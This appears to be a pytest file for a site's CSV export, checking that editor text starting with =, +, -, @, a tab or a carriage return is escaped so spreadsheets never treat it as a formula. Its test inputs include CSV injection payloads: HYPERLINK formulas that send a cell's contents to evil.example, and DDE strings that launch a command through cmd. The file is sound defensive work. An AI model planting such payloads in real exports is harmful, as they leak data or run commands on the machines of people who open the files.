"""/data/comparison.csv opened in a spreadsheet: editors' text is never a live formula.

Following OWASP's "CSV Injection" page, a cell that begins with =, +, -, @, a tab or a carriage
return gets a leading single quote, so a spreadsheet shows it as text; the CSV stays valid
(parsed back here with the csv module). Honest values (ranks, dates, URLs, ordinary text) are
unchanged, and the JSON, which no spreadsheet reads, carries the text as the editor typed it.
"""

import csv
import io
import json

import pytest

from comparisons.models import Criterion, Framework, Rating
from core.pages import OPEN_DATA

# One payload per leading character a spreadsheet reads as the start of a formula.
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": '+1+cmd|" /C calc"!A0',
    "-": '-2+3+cmd|" /C calc"!A0',
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": '\t=HYPERLINK("https://evil.example/","Tab")',
    "carriage return": '\r=HYPERLINK("https://evil.example/","CR")',
}


def csv_rows(client) -> list[dict[str, str]]:
    response = client.get(OPEN_DATA["data-csv"])
    assert response.status_code == 200
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    rows = list(reader)
    assert all(None not in row and None not in row.values() for row in rows), "ragged CSV"
    return rows


def csv_row(client, criterion="packages", framework="flask") -> dict[str, str]:
    rows = csv_rows(client)
    assert len(rows) == Rating.objects.count()  # one per rated cell: none split or merged
    (row,) = [row for row in rows if (row["criterion"], row["framework"]) == (criterion, framework)]
    return row


def json_rating(client, criterion="packages", framework="flask") -> dict:
    data = json.loads(client.get(OPEN_DATA["data-json"]).content)
    (rating,) = [
        r for r in data["ratings"] if (r["criterion"], r["framework"]) == (criterion, framework)
    ]
    return rating


def flask_on_packages() -> Rating:
    return Rating.objects.get(criterion__slug="packages", framework__slug="flask")


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_verdict_that_starts_a_formula_opens_as_text(seeded, client, payload):
    rating = flask_on_packages()
    rating.verdict = payload
    rating.save()
    assert csv_row(client)["verdict"] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_note_that_starts_a_formula_opens_as_text(seeded, client, payload):
    rating = flask_on_packages()
    rating.note = payload
    rating.save()
    assert csv_row(client)["note"] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_framework_name_that_starts_a_formula_opens_as_text(seeded, client, payload):
    framework = Framework.objects.get(slug="flask")
    framework.name = payload
    framework.save()
    assert csv_row(client)["framework_name"] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_a_criterion_name_that_starts_a_formula_opens_as_text(seeded, client, payload):
    criterion = Criterion.objects.get(slug="packages")
    criterion.name = payload
    criterion.save()
    assert csv_row(client)["criterion_name"] == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_json_carries_the_verdict_as_typed(seeded, client, payload):
    rating = flask_on_packages()
    rating.verdict = payload
    rating.note = payload
    rating.save()
    assert json_rating(client)["verdict"] == payload
    assert json_rating(client)["note"] == payload


@pytest.mark.parametrize(
    "text",
    [
        "Many extensions; pick them yourself.",
        "1 of 3, = the others",
        "'Quoted' already",
        "A - B + C @ D",
    ],
)
def test_honest_text_is_unchanged(seeded, client, text):
    rating = flask_on_packages()
    rating.verdict = text
    rating.save()
    assert csv_row(client)["verdict"] == text


def test_ranks_dates_and_sources_are_unchanged(seeded, client):
    rating = flask_on_packages()
    row = csv_row(client)
    assert row["rank"] == str(rating.rank)
    assert row["framework_last_reviewed"] == rating.framework.last_reviewed.isoformat()
    assert row["sources"].split(" | ") == [source.url for source in rating.sources.all()]
    assert row["criterion"] == "packages"
    assert row["framework"] == "flask"


# --- readers that split on another separator (issue 27)


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("Solid;=2+5;x", "Solid;'=2+5;x"),
        ("Solid,=2+5", "Solid,'=2+5"),
        ("a;@SUM(A1);b", "a;'@SUM(A1);b"),
        ("x;-1+1", "x;'-1+1"),
    ],
)
def test_a_formula_after_a_semicolon_or_comma_opens_as_text_for_any_reader(
    seeded, client, typed, written
):
    rating = flask_on_packages()
    rating.verdict = typed
    rating.save()
    assert csv_row(client)["verdict"] == written
    for separator in (";", ","):
        for cell in csv_row(client)["verdict"].split(separator):
            assert not cell.startswith(("=", "+", "-", "@"))


def test_every_cell_is_quoted(seeded, client):
    body = client.get("/data/comparison.csv").content.decode()
    for line in body.splitlines()[:3]:
        cells = line.split('","')
        assert line.startswith('"'), line
        assert line.endswith('"'), line
        assert len(cells) > 1
